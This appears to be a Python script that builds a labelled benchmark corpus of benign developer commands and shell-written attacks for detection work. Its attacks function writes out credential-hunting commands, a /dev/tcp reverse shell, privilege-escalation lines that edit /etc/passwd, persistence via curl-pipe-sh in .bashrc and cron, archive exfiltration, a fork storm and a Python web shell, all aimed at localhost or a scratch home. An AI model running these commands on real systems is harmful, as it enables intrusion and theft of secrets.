"""Corpus `dev`: a developer's toolchain. Benign: cc on small generated C files (and running
what it built), make, git on a local repository, binutils. Attacks are written in shell
(bash, coreutils, find/grep): see common.py for how they are kept harmless.

    python3 benches/corpora/dev.py OUT [BENIGN_RUNS]
"""

import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import (main, listener, shell_driver, shell_commands, sink, free_port,  # noqa: E402
                    web_client, write, WEB_PATHS)


def c_source(rng, i):
    funcs = []
    calls = []
    for k in range(rng.randrange(1, 6)):
        op = rng.choice(["+", "*", "^", "-"])
        funcs.append(f"static long f{k}(long x) {{ long s = 0; for (long i = 0; i < x; i++) s = s {op} i; return s; }}")
        calls.append(f"  r += f{k}({rng.randrange(10, 1000)});")
    io = rng.choice([
        '  printf("%ld\\n", r);',
        '  FILE *f = fopen("out.txt", "w"); if (f) { fprintf(f, "%ld\\n", r); fclose(f); }',
        '  char *p = malloc(1 << 16); if (p) { memset(p, (int)r, 1 << 16); free(p); } puts("ok");',
        '  char buf[64]; snprintf(buf, sizeof buf, "%ld", r); write(1, buf, strlen(buf));',
    ])
    return ("#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <unistd.h>\n"
            + "\n".join(funcs) + f"\nint main(void) {{\n  long r = {i};\n" + "\n".join(calls)
            + "\n" + io + "\n  return 0;\n}\n")


def benign(c, n):
    rng = c.rng
    kinds = ["cc", "cc_run", "make", "git_commit", "git_inspect", "binutils", "cc_lib", "git_branch",
             "configure", "release", "test_loop"]
    weights = [5, 4, 3, 4, 4, 2, 1, 2, 2, 1, 2]
    for i in range(n):
        kind = rng.choices(kinds, weights)[0]
        w = c.workdir()
        for k in range(rng.randrange(1, 5)):
            write(os.path.join(w, f"m{k}.c"), c_source(rng, k))
        opt = rng.choice(["-O0", "-O1", "-O2", "-Os", "-g"])
        if kind == "cc":
            c.record("benign", kind, ["cc", opt, "-c", "m0.c", "-o", "m0.o"], cwd=w)
        elif kind == "cc_run":
            c.record("benign", kind, ["sh", "-c", f"cc {opt} -o prog m0.c && ./prog"], cwd=w)
        elif kind == "make":
            objs = " ".join(f[:-2] + ".o" for f in sorted(os.listdir(w)) if f.endswith(".c"))
            write(os.path.join(w, "Makefile"),
                  f"CFLAGS={opt}\nall: {objs}\n\t@echo built\n%.o: %.c\n\t$(CC) $(CFLAGS) -c $< -o $@\nclean:\n\trm -f *.o\n")
            c.record("benign", kind, ["make", "-j", str(rng.choice([1, 2]))], cwd=w)
        elif kind.startswith("git"):
            setup = ("git init -q . && git add . && git commit -qm init && "
                     "echo change >> m0.c && git add m0.c && git commit -qm second")
            ops = {
                "git_commit": ["git init -q .", "git add .", "git commit -qm init",
                               "echo x >> m0.c", "git commit -qam next", "git log --oneline"],
                "git_inspect": [setup, "git log -p -1", "git diff HEAD~1", "git status --short",
                                "git show --stat HEAD", "git blame m0.c", "git grep -n long"],
                "git_branch": [setup, "git checkout -qb topic", "echo y >> m0.c",
                               "git commit -qam topic", "git checkout -q -", "git merge -q topic",
                               "git branch -a", "git gc -q"],
            }[kind]
            pre = ops[0] if ops[0] == setup else None
            chosen = ops[1:] if pre else ops
            if pre:
                subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                "sh", "-c", pre], cwd=w, env={"HOME": c.home, "PATH": "/usr/bin:/bin"},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                chosen = rng.sample(chosen, rng.randrange(2, len(chosen) + 1))
            c.record("benign", kind, ["sh", "-c", " && ".join(chosen)], cwd=w)
        elif kind == "binutils":
            tool = rng.choice(["nm m0.o", "objdump -d m0.o", "size m0.o", "ar rcs lib.a m0.o && ar t lib.a",
                               "readelf -h m0.o", "strip -o s.o m0.o"])
            c.record("benign", kind, ["sh", "-c", f"cc -c m0.c -o m0.o && {tool}"], cwd=w)
        elif kind == "configure":
            # A configure-like script: probes for tools, greps the sources, writes config.h.
            c.record("benign", kind, ["bash", "-c",
                     "for t in cc make ar git python3; do command -v $t >/dev/null && echo \"#define HAVE_$t 1\" >> config.h; done; "
                     "grep -rl include . | sort > sources.txt; i=0; while [ $i -lt %d ]; do i=$((i+1)); done; "
                     "cc -E m0.c > /dev/null && echo ok" % rng.randrange(100, 3000)], cwd=w)
        elif kind == "release":
            c.record("benign", kind, ["bash", "-c", rng.choice([
                "tar czf ../rel.tgz . && sha256sum ../rel.tgz",
                "find . -name '*.c' | xargs cat | gzip > ../src.gz && ls -l ../src.gz",
                "cc -O2 -o prog m0.c && strip prog && tar cf - prog | wc -c"])], cwd=w)
        elif kind == "test_loop":
            c.record("benign", kind, ["bash", "-c",
                     f"cc -o prog m0.c && for i in $(seq {rng.randrange(2, 12)}); do ./prog > /dev/null || exit 1; done; echo pass"], cwd=w)
        elif kind == "cc_lib":
            c.record("benign", kind, ["sh", "-c", f"cc {opt} -fPIC -shared -o libm0.so m0.c && ls -l libm0.so"], cwd=w)


def attacks(c):
    rng = c.rng
    h = c.home
    for v in range(3):
        # Credential hunting.
        cmd = [
            f"find {h} -name 'id_*' -o -name '*.pem' -o -name 'credentials' | xargs cat",
            f"grep -rIl -e 'PRIVATE KEY' -e AKIA -e token {h}; cat {h}/.netrc {h}/.aws/credentials",
            f"for f in .ssh/id_rsa .docker/config.json .config/gh/hosts.yml project/.env; do cat {h}/$f; done; env | grep -i -e key -e token",
        ][v]
        c.record("attack", "cred_hunt", ["bash", "-c", cmd])
        # Reverse shell: bash's /dev/tcp to a local listener that sends commands.
        port, t = listener(shell_driver(shell_commands(h, v)))
        c.record("attack", "reverse_shell", ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
        t.join(5)
        # Privilege escalation attempts.
        cmd = [
            "cat /etc/shadow; find /usr/bin /usr/sbin -perm -4000 -type f 2>/dev/null | head -20; id",
            "ls -l /etc/sudoers /etc/sudoers.d; echo 'x::0:0::/:/bin/sh' >> /etc/passwd; cat /proc/1/environ",
            "for b in $(find /usr/bin -perm -4000 2>/dev/null); do ls -l $b; done; touch /etc/cron.d/x; cat /root/.bash_history",
        ][v]
        c.record("attack", "privesc", ["bash", "-c", cmd])
        # Persistence in rc files, cron and autostart (all in the scratch home).
        cmd = [
            f"echo 'curl -s http://127.0.0.1:1/x | sh' >> {h}/.bashrc; echo '* * * * * sh /tmp/x' > {h}/.crontab",
            f"mkdir -p {h}/.config/autostart; printf '[Desktop Entry]\\nExec=/tmp/x\\n' > {h}/.config/autostart/x.desktop; echo 'sh /tmp/x &' >> {h}/.profile",
            f"mkdir -p {h}/.config/systemd/user; printf '[Service]\\nExecStart=/tmp/x\\n' > {h}/.config/systemd/user/x.service; chmod 644 {h}/.config/systemd/user/x.service",
        ][v]
        c.record("attack", "persistence", ["bash", "-c", cmd])
        # Miner-like: CPU loops in several background workers.
        c.record("attack", "miner", ["bash", "-c",
                 f"for w in $(seq {2 + v}); do (i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done; "
                 "echo $i | sha256sum) & done; wait"])
        # Exfiltration: archive the home and send it to a local listener.
        port, t = listener(sink)
        cmd = [f"tar czf - {h} > /dev/tcp/127.0.0.1/{port}",
               f"cat {h}/.ssh/* {h}/.aws/credentials | base64 > /dev/tcp/127.0.0.1/{port}",
               f"find {h} -type f -exec cat {{}} + | gzip > /dev/tcp/127.0.0.1/{port}"][v]
        c.record("attack", "exfiltration", ["bash", "-c", cmd])
        t.join(5)
        # Fork storm, bounded by a count.
        c.record("attack", "fork_bomb", ["bash", "-c",
                 f"b() {{ [ $1 -le 0 ] && return; b $(($1-1)) & b $(($1-1)) & wait; }}; b {4 + v}"])
        # Web shell: a server that runs each request's command with sh.
        port = free_port()
        server = (
            "import http.server, subprocess, urllib.parse\n"
            "class H(http.server.BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n"
            "        if self.path == '/quit':\n"
            "            self.send_response(200); self.end_headers(); raise SystemExit\n"
            "        cmd = urllib.parse.unquote(self.path[1:])\n"
            "        out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n"
            "        self.send_response(200); self.end_headers(); self.wfile.write(out)\n"
            f"http.server.HTTPServer(('127.0.0.1', {port}), H).serve_forever()\n")
        c.record("attack", "web_shell", ["python3", "-c", server],
                 during=web_client(port, rng.sample(WEB_PATHS, 2 + v)))


if __name__ == "__main__":
    main(benign, attacks, 150)
